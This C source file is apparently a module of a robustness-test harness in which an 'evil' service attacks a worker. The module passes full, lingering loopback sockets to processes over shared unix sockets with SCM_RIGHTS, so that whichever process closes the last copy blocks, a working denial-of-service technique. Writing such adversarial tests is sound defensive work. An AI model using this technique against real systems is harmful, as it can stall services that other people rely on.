/* SPDX-License-Identifier: MIT */
/*
 * The attack "rights" of the service `evil`: passes sockets whose last close blocks over every unix
 * socket that the worker shares (SCM_RIGHTS, unix(7)), and closes its own copies. The process that
 * drops the last copy blocks.
 */
#include <netinet/in.h>
#include <stdbool.h>
#include <sys/socket.h>
#include <unistd.h>

#include "base/rights.h"
#include "services/evil.h"

enum { FDS_MOST = 512, TRIES_MOST = 16, LINGER_S = 60 };

static bool is_datagram(int fd)
{
	int kind = 0;
	socklen_t len = sizeof(kind);

	return getsockopt(fd, SOL_SOCKET, SO_TYPE, &kind, &len) == 0 && kind == SOCK_DGRAM;
}

static void set_linger(int fd, int seconds)
{
	const struct linger linger = { 1, seconds };

	setsockopt(fd, SOL_SOCKET, SO_LINGER, &linger, sizeof(linger));
}

/* A full socket, connected to a listener that never accepts it. */
int evil_lingering(void)
{
	static char bytes[64 * 1024];
	static int listener = -1;
	struct sockaddr_in at = { .sin_family = AF_INET };
	socklen_t len = sizeof(at);
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (listener < 0) {
		listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
		listen(listener, TRIES_MOST);
	}
	getsockname(listener, (struct sockaddr *)&at, &len);
	at.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if (connect(fd, (struct sockaddr *)&at, len) < 0)
		return -1;
	while (send(fd, bytes, sizeof(bytes), MSG_DONTWAIT | MSG_NOSIGNAL) > 0)
		;
	set_linger(fd, LINGER_S);
	return fd;
}

static bool pass_on(int by, int fd)
{
	const struct iovec byte = { .iov_base = &(char){ 0 }, .iov_len = 1 };

	return rights_send(by, &byte, 1, &fd, 1, MSG_DONTWAIT) >= 0;
}

static void pass_lingering(struct attempt *attempt, int by)
{
	int fd = evil_lingering();
	bool done = fd >= 0 && pass_on(by, fd);

	attempt->tried++;
	attempt->succeeded += done;
	if (fd >= 0 && !done)
		set_linger(fd, 0);
	if (fd >= 0)
		close(fd);
}

void evil_rights(struct attempt *attempt)
{
	for (int fd = 3; fd < FDS_MOST && attempt->tried < TRIES_MOST; fd++)
		if (is_datagram(fd))
			pass_lingering(attempt, fd);
}
